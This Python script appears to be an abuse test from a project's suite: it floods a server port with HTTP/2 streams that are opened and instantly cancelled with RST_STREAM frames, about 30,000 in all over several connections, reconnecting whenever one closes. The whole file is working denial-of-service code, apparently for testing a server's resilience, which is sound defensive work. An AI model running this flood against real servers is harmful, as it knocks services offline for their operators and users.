"""A program that opens so many streams and resets them, as fast as it can."""

import asyncio
import sys

from tests.abuse.raw_http2 import END_HEADERS, RST, call_headers, connected, frame, opening

STREAMS = 30_000
AT_ONCE = 200
CANCEL = b"\x00\x00\x00\x08"


async def flood(port: int, path: bytes, streams: int) -> None:
    """Opens connections again when they are closed."""
    sent = 0
    while sent < streams:
        try:
            async with connected(port) as (reader, writer):
                reading = asyncio.create_task(reader.read(-1))
                first = 1
                while sent < streams and not reading.done():
                    numbers = range(first, first + 2 * AT_ONCE, 2)
                    writer.write(b"".join(reset(path, number) for number in numbers))
                    first += 2 * AT_ONCE
                    sent += AT_ONCE
                    async with asyncio.timeout(2):
                        await writer.drain()
                reading.cancel()
        except (OSError, TimeoutError):
            sent += AT_ONCE  # where nobody listens any more, it ends too
            await asyncio.sleep(0.05)


def reset(path: bytes, stream: int) -> bytes:
    """One stream, opened and cancelled."""
    return opening(call_headers(path), END_HEADERS, stream) + frame(RST, 0, stream, CANCEL)


async def main() -> None:
    """`flood.py PORT PATH`: half of the streams on one connection, half on ten."""
    port, path = int(sys.argv[1]), sys.argv[2].encode()
    shares = [STREAMS // 2] + [STREAMS // 20] * 10
    await asyncio.gather(*(flood(port, path, share) for share in shares))


asyncio.run(main())
